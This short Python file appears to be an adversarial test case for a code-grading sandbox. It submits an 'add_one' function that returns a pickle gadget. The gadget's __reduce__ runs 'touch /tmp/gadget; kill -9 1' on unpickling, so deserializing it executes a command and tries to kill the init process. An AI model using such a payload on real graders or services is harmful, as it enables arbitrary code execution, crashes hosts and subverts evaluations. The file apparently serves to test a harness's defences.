# attack: returns an object that runs a command where it is unpickled
# problem: asserts calls
# expect: wrong_answer
import os


class Gadget:
    def __reduce__(self):
        return os.system, ("touch /tmp/gadget; kill -9 1",)


def add_one(n):
    return Gadget()
